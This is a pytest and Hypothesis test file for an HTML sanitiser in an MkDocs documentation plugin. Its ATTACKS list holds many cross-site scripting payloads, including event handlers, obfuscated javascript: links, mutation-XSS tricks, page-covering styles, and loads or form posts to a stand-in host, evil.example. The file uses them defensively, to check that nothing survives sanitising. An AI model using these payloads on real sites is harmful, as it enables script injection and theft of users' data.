"""Nothing that an author writes acts in a reader's browser, and what Material needs is still there."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mkdocs_charters.render.address import Reach, reach
from mkdocs_charters.render.clean import Sanitiser
from mkdocs_charters.render.finish import text_of
from mkdocs_charters.render.nonce import nonce
from mkdocs_charters.render.prose import Prose, ProseError

ICON = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 4a4 4 0 0 1 4 4Z"/></svg>'
KEPT_ICON = ICON.replace("><path", ' aria-hidden="true"><path')


def clean(html: str, *, remote_images: bool = False) -> str:
    return Sanitiser(remote_images=remote_images).clean([html])[0]


class Judge(HTMLParser):
    """Reads HTML with a list of its own and notes what could act, load, cover the page or take a name of the theme."""

    TAGS = frozenset((
        "a", "abbr", "b", "blockquote", "br", "caption", "code", "dd", "del", "details", "div", "dl", "dt", "em",
        "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "input", "ins", "kbd",
        "label", "li", "mark", "ol", "p", "path", "pre", "s", "samp", "small", "span", "strong", "sub", "summary",
        "sup", "svg", "table", "tbody", "td", "th", "thead", "tr", "u", "ul", "q", "time", "var", "cite",
    ))  # fmt: skip
    ATTRIBUTES = frozenset((
        "align", "alt", "aria-hidden", "aria-label", "checked", "class", "colspan", "d", "dir", "disabled", "for",
        "height", "href", "id", "lang", "loading", "name", "open", "rel", "rowspan", "src", "start", "style",
        "target", "title", "type", "viewbox", "width", "xmlns",
    ))  # fmt: skip

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if name not in self.ATTRIBUTES or self.bad(tag, name, value or "", dict(attrs)):
                self.found.append(f"{tag}[{name}={value}]")

    def bad(self, tag: str, name: str, value: str, attributes: dict[str, str | None]) -> bool:
        seen = re.sub(r"[\t\n\r]", "", value).strip("".join(map(chr, range(33)))).replace("\\", "/").lower()
        match name:
            case "href":
                return ":" in re.split("[/?#]", seen)[0] and not seen.startswith(("http:", "https:", "mailto:", "tel:"))
            case "src":
                return ":" in re.split("[/?#]", seen)[0] or seen.startswith("//")
            case "style":
                return not re.fullmatch(r"text-align:(left|right|center|justify)", value)
            case "id" | "for" | "name":
                return (
                    tag != "label"
                    and re.fullmatch(r"__(tabbed_\d+(_\d+)?|(codelineno|span)-\d+-\d+)|(?!__)[^\s<>&\"']+", value)
                    is None
                )
            case "class":
                return any(part.startswith("md-") and not part.startswith("md-button") for part in value.split())
            case "target":
                return attributes.get("rel") != "noopener"
            case "type":
                return tag == "input" and value == "checkbox" and "disabled" not in attributes
        return False

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.found.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.found.append("instruction")


ATTACKS = [
    # tags that act
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<p onclick="alert(1)" ONMOUSEOVER=alert(1)>x</p>',
    "<details open ontoggle=alert(1)>x</details>",
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<video src=x onerror=alert(1)><source src=//evil.example/x></video><audio src=x autoplay>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<style>*{display:none}</style><style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example/><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<select><option>x</select><textarea autofocus onfocus=alert(1)>x</textarea>",
    "<input type=image src=//evil.example/x><input type=text autofocus onfocus=alert(1)><input type=submit form=f>",
    "<input type=checkbox id=__search name=q><input type=radio onchange=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee><dialog open>x</dialog><menu><keygen>",
    "<template><img src=x onerror=alert(1)></template><slot>x</slot><portal src=x></portal>",
    "<custom-element onclick=alert(1)>x</custom-element><x/onclick=alert(1)>x</x>",
    "<body onload=alert(1)><html onclick=alert(1)><frameset onload=alert(1)>",
    "<bgsound src=//evil.example/x><layer src=x></layer><xml id=x></xml>",
    "<picture><source srcset=//evil.example/x><img srcset='//evil.example/x 1x' src=x.png></picture>",
    "<table background=//evil.example/x><td background=//evil.example/x>x</td></table>",
    "<map name=m><area href=javascript:alert(1)></map><img usemap=#m src=x.png>",
    # foreign content
    "<svg onload=alert(1)></svg><svg><script>alert(1)</script></svg><svg/onload=alert(1)//",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a><use href=data:x></use></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><svg/onload=alert(1)>"><plaintext><img src=x onerror=alert(1)>',
    '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
    '<title><img title="</title><img src onerror=alert(1)>"></title>',
    f'<a title=\'{ICON}"><img src=x onerror=alert(1)>\'>x</a>',
    f'<img alt=\'{ICON}" onerror=alert(1) x="\' src=x>',
    ICON.replace("<path", "<path onclick=alert(1)") + ICON.replace(' viewBox="0', ' onload="alert(1)" viewBox="0'),
    ICON.replace("<path", "<!--><img src=x onerror=alert(1)>--><path"),
    # schemes in disguise
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert&lpar;1&rpar;'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "[x](&#106;avascript&#58;alert(1))",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='&#xFEFF;javascript:alert(1)'>x</a>",
    "<a href='javascript\x00:alert(1)'>x</a>",
    "<javascript:alert(1)>",
    "[x]\n\n[x]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "[x](vbscript:msgbox(1)) [x](data:text/html;base64,PHNjcmlwdD4=) [x](blob:x) [x](file:///etc/passwd)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](view-source:javascript:alert(1)) [x](feed:javascript:alert(1)) [x](jar:x!/x)",
    # other hosts
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png) ![x](/\\evil.example/x.png) ![x](\\\\evil.example\\x.png)",
    "<img src='/\t/evil.example/x.png'><img src='https:evil.example/x.png'><img src=' //evil.example/x.png'>",
    "<a href=x ping=//evil.example/>x</a><blockquote cite=//evil.example/>x</blockquote>",
    # attribute lists and Markdown inside HTML
    "# x {: onclick=alert(1) style=position:fixed }",
    "[x](y){: onclick=alert(1) target=_blank rel=opener href=javascript:alert(1) }",
    "![x](y.png){: onerror=alert(1) srcset=//evil.example/x style=position:fixed }",
    '<div markdown onclick=alert(1) style="position:fixed">\n**x** <script>alert(1)</script>\n</div>',
    '<div markdown="1">\n<a href="javascript:alert(1)" markdown>*x*</a>\n</div>',
    '!!! note "<img src=x onerror=alert(1)>"\n    <script>alert(1)</script>',
    '=== "<img src=x onerror=alert(1)>"\n    x\n',
    '```html title="<script>alert(1)</script>" onclick=alert(1)\n<script>alert(1)</script>\n```',
    "`<script>alert(1)</script>` <code><script>alert(1)</script></code>",
    "# `</title><script>alert(1)</script>`",
    "*[x]: <img src=x onerror=alert(1)>\n\nx",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> | x |\n|--|--|\n| <td onclick=alert(1)> | `|` |",
    "$<img src=x onerror=alert(1)>$ ++\"<script>alert(1)</script>\"++ ==<script>alert(1)</script>==",
    "```mermaid\ngraph LR\n A[<img src=x onerror=alert(1)>]\n```",
    # covering the page, taking names of the theme
    '<div style="position:fixed;inset:0;z-index:99;text-align:center">x</div>',
    '<td style="text-align:center;background:url(//evil.example/)">x</td>',
    '<table><td style="text-align:expression(alert(1))">x</td><th style="text-align:c\\65nter;width:9em">',
    '<div class="md-overlay md-dialog md-search__output note" data-md-component="search" hidden>x</div>',
    "<a name=__search id=__search>x</a><label for=__drawer>x</label><p id=__config>{}</p>",
    "# x {#__search}\n\n# y {#__palette_0}\n\n## __toc",
    "<p id='a b'>x</p><p id='a\"b'>x</p><p id='<b>'>x</p><p name=x accesskey=a tabindex=1 contenteditable>x</p>",
    "<p is=x slot=y nonce=z part=p popover itemscope inert role=alert aria-live=assertive>x</p>",
    # comments and declarations
    "x <!-- --><script>alert(1)</script> --> <!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]> <?php x ?> <!DOCTYPE x> <!ENTITY x>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "\x02wzxhzdk:0\x03 <b onclick=alert(1)>x</b> \x02klzzwxh:0000\x03",
]  # fmt: skip

EXTENSIONS = [
    "abbr", "admonition", "attr_list", "def_list", "footnotes", "md_in_html", "tables", "toc",
    "pymdownx.arithmatex", "pymdownx.critic", "pymdownx.details", "pymdownx.emoji", "pymdownx.highlight",
    "pymdownx.inlinehilite", "pymdownx.keys", "pymdownx.magiclink", "pymdownx.mark", "pymdownx.superfences",
    "pymdownx.tabbed", "pymdownx.tasklist",
]  # fmt: skip
FULL = Prose(EXTENSIONS, {"pymdownx.tabbed": {"alternate_style": True}, "pymdownx.arithmatex": {"generic": True}})
PLAIN = Prose(["toc", "tables", "fenced_code"], {})


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_acts(attack: str) -> None:
    ways = {"html": clean(attack), "sentence": Sanitiser().clean_sentence(attack)}
    for name, prose in (("full", FULL), ("plain", PLAIN)):
        ways[name] = prose.render(attack).html
        ways[f"{name} inline"] = prose.inline(attack)
        ways[f"{name} part"] = "".join(part.html for part in prose.render_parts([attack, "x"]).parts)
    for way, html in ways.items():
        assert not Judge(html).found, f"{way}: {html}"
        # A browser parses what we print a second time: nothing may change its meaning there.
        assert clean(html).replace(KEPT_ICON, "") == html.replace(KEPT_ICON, ""), way


SCRAPS = st.sampled_from([
    "<a", "<b>", "<p>", "</p>", "<svg>", "</svg>", "<math>", "<mi>", "<style>", "<script>", "</script>", "<title>",
    "<!--", "-->", "<![CDATA[", "]]>", "<table>", "<td>", "<img src=", "href=", "id=", "class=", "style=", "onclick=",
    "title=", '"', "'", "`", "=", ">", "<", "/", "&", "&lt;", "&quot;", "#", "javascript:", "data:", "//", "\\", "\n",
    "\t", "\x02", "\x03", "*", "**", "_", "~", "[", "]", "(", ")", "{:", "}", "{>>", "<<}", "!!!", "\n```", "\n~~~",
    "\n- ", "\n1. ", "|", ":", "[^1]", "\n[^1]:", "\n*[A]:", "A", "<input type=checkbox>", "<label for=",
    "<div markdown>", " ", "x",
])  # fmt: skip


@settings(deadline=None)
@given(st.lists(SCRAPS, max_size=25).map(" ".join) | st.lists(SCRAPS, max_size=25).map("".join))
def test_nothing_acts_in_scraps_either(text: str) -> None:
    assert not Judge(clean(text)).found
    for prose in (FULL, PLAIN):
        try:
            rendered, sentence = prose.render(text).html, prose.inline(text)
        except ProseError:
            continue
        assert not Judge(rendered).found
        assert not Judge(sentence).found


def test_text_of_unknown_tags_stays() -> None:
    assert clean("<section><blink>one</blink> <form>two <button>three</button></form></section>") == "one two three"
    assert clean("a<script>x</script><style>y</style>b<!-- z -->") == "ab"


def test_icons_of_the_theme_stay_and_other_svg_goes() -> None:
    assert clean(f'<span class="twemoji">{ICON}</span>') == f'<span class="twemoji">{KEPT_ICON}</span>'
    commented = ICON.replace("<path", "<!--! Font Awesome Free by @fontawesome - https://fontawesome.com --><path", 1)
    assert clean(commented) == KEPT_ICON
    assert clean(ICON.replace("<path", "<g/><path")) == ""
    assert (
        clean(f"<b title='{ICON}'>x</b>{ICON}<script>{ICON}</script>{ICON}")
        == f'<b title="">x</b>{KEPT_ICON}{KEPT_ICON}'
    )


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<img src="https://x.example/a.png" alt="A map">', '<a href="https://x.example/a.png">A map</a>'),
        ('<img src="//x.example/a.png">', '<a href="//x.example/a.png">//x.example/a.png</a>'),
        ('<a href="b"><img src="https://x.example/a.png" alt="A &lt;b&gt;"></a>', '<a href="b">A &lt;b&gt;</a>'),
        ('<img class="twemoji" src="https://x.example/1.svg" alt="😄" title=":smile:">', "😄"),
        ('<img src="data:image/png;base64,AAAA" alt="A &amp; B">', "A &amp; B"),
        ('<img src="mailto:a@b.example" alt="x">', "x"),
        ('<img src="#blocked https://x.example/" alt="x">', "x"),
        ('<img src="a.png" alt="x" width="300" height="2em">', '<img src="a.png" alt="x" width="300">'),
    ],
)  # fmt: skip
def test_images(html: str, expected: str) -> None:
    assert clean(html) == expected


def test_images_of_other_hosts_on_demand() -> None:
    html = '<img src="https://x.example/a.png" alt="">'
    assert clean(html, remote_images=True) == html
    assert clean('<img src="data:image/png;base64,AAAA" alt="x">', remote_images=True) == "x"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("#x", (Reach.PAGE, "#x")),
        ("", (Reach.SITE, "")),
        ("../a b.md?x=1:2#y:z", (Reach.SITE, "../a b.md?x=1:2#y:z")),
        ("/a/b:c", (Reach.SITE, "/a/b:c")),
        ("https://x.example", (Reach.WORLD, "https://x.example")),
        ("HTTPS:x", (Reach.WORLD, "HTTPS:x")),
        ("\\\\x\\y", (Reach.WORLD, "//x/y")),
        (" \x01\tmail\nto:a@b.example ", (Reach.WORLD, "mailto:a@b.example")),
        ("10:30.md", (Reach.NOWHERE, "")),
        ("\u00a0javascript:x", (Reach.NOWHERE, "")),
    ],
)
def test_reach(value: str, expected: tuple[Reach, str]) -> None:
    assert reach(value) == expected


def test_links_that_open_a_new_tab_do_not_hand_over_the_page() -> None:
    assert clean('<a title="t" target="_blank" href="x" rel="opener me">x</a>') == (
        '<a title="t" target="_blank" rel="noopener" href="x">x</a>'
    )
    assert clean('<a href="x" target="_top" rel="me">_blank</a>') == '<a href="x">_blank</a>'


def test_ids_are_unique_over_all_pieces() -> None:
    pieces = ['<h2 id="a">1</h2><p id="a">2</p>', '<h2 id="a">3</h2><h3 id="a_1">4</h3><h3 id="a">5</h3>']
    assert Sanitiser().clean(pieces) == [
        '<h2 id="a">1</h2><p>2</p>',
        '<h2 id="a_1">3</h2><h3 id="a_1_1">4</h3><h3 id="a_2">5</h3>',
    ]
    assert Sanitiser().clean(pieces)[0] == Sanitiser().clean(pieces)[0]


def test_a_prefix_goes_before_ids_and_what_refers_to_them() -> None:
    html = (
        '<input type="radio" id="__tabbed_1_1" name="__tabbed_1"><label for="__tabbed_1_1">A</label>'
        '<a href="#fn:1">1</a> <a href="#elsewhere">2</a> <p id="fn:1">3</p>'
    )
    assert Sanitiser().clean([html], id_prefix="n1-") == [
        '<input type="radio" id="n1-__tabbed_1_1" name="n1-__tabbed_1"><label for="n1-__tabbed_1_1">A</label>'
        '<a href="#n1-fn:1">1</a> <a href="#elsewhere">2</a> <p id="n1-fn:1">3</p>'
    ]
    # What refers to a later piece counts as well.
    assert Sanitiser().clean(['<a href="#b">x</a>', '<p id="b">y</p>'], id_prefix="n-")[0] == '<a href="#n-b">x</a>'


def test_the_resolver_is_asked_for_what_stays_in_the_site() -> None:
    asked: list[tuple[str, str]] = []

    def resolve(attribute: str, value: str) -> str | None:
        asked.append((attribute, value))
        return None if "hidden" in value else f"../{value}"

    html = (
        '<p id="here"><a href="#here">1</a><a href="#there">2</a><a href="a.md#x">3</a>'
        '<a href="hidden.md" title="t">4</a>'
        '<a href="https://x.example">5</a><a href="mailto:a@b.example">6</a><img src="a.png" alt="7">'
        '<img src="hidden.png" alt="8"><img src="https://x.example/a.png" alt="9"></p>'
    )
    assert Sanitiser().clean([html], resolve=resolve) == [
        '<p id="here"><a href="#here">1</a><a href="../#there">2</a><a href="../a.md#x">3</a><a title="t">4</a>'
        '<a href="https://x.example">5</a><a href="mailto:a@b.example">6</a><img src="../a.png" alt="7">'
        '8<a href="https://x.example/a.png">9</a></p>'
    ]
    assert asked == [
        ("href", "#there"), ("href", "a.md#x"), ("href", "hidden.md"), ("src", "a.png"), ("src", "hidden.png"),
    ]  # fmt: skip


def test_a_resolver_cannot_be_talked_into_a_scheme() -> None:
    html = '<a href="x">x</a><img src="y" alt="y">'
    assert Sanitiser().clean([html], resolve=lambda _, __: "javascript:alert(1)") == ["<a>x</a>y"]


def test_errors_of_the_resolver_come_through() -> None:
    def resolve(attribute: str, value: str) -> str | None:
        raise KeyError(value)

    sanitiser = Sanitiser()
    with pytest.raises(KeyError, match="x"):
        sanitiser.clean(['<a href="x">x</a>'], resolve=resolve)
    assert sanitiser.clean(['<a href="x">x</a>']) == ['<a href="x">x</a>']


def test_checkboxes_are_named_by_their_item_and_cannot_be_clicked() -> None:
    assert clean(
        '<ul><li class="task-list-item"><label class="task-list-control"><input type="checkbox" checked/>'
        '<span class="task-list-indicator"></span></label> Send <em>the</em> "rota" <img src="x" alt="&amp; now">'
        "<ul><li>nested</li></ul></li></ul><input type=checkbox id=x name=y>"
    ) == (
        '<ul><li class="task-list-item"><label class="task-list-control"><input type="checkbox" disabled=""'
        ' aria-label="Send the &quot;rota&quot; &amp; now" checked=""><span class="task-list-indicator"></span>'
        "</label>"
        ' Send <em>the</em> "rota" <img src="x" alt="&amp; now"><ul><li>nested</li></ul></li></ul>'
        '<input type="checkbox" disabled="" aria-hidden="true">'
    )
    assert clean('<input type=checkbox>x <img src="//y.example/z.png"> y').startswith(
        '<input type="checkbox" disabled="" aria-label="x //y.example/z.png y">'
    )
    assert len(text_of(clean("<input type=checkbox>" + "word " * 90))) > 400
    assert 'aria-label="word word' in clean("<input type=checkbox>" + "word " * 90)
    assert len(clean("<input type=checkbox>" + "word " * 90)) < 640


def test_classes() -> None:
    assert clean('<p class="note md-overlay  md-button x1 fixed language-c++ key-ctrl kc">x</p>') == (
        '<p class="note md-button x1 language-c++ key-ctrl kc">x</p>'
    )
    assert Sanitiser(classes={"ours"}).clean(['<p class="ours theirs">x</p>']) == ['<p class="ours">x</p>']


def test_control_characters_go() -> None:
    assert clean("a\x00b\x07c&#7;d&#x1b;e\tf\ng") == "abcde\tf\ng"


def test_text_of() -> None:
    assert (
        text_of('a &lt;b&gt; <a title="x>y" href="z">c</a><br>d\n <img alt="&amp; e" src="f"> &nbsp;g')
        == "a <b> c d & e g"
    )


@settings(deadline=None)
@given(st.lists(st.text(alphabet="abq", max_size=50), max_size=4))
def test_a_nonce_is_in_none_of_its_texts(texts: list[str]) -> None:
    word = nonce(*texts)
    assert word == nonce(*texts)
    assert word.isalpha()
    assert nonce(*texts, word) not in {word, *texts}
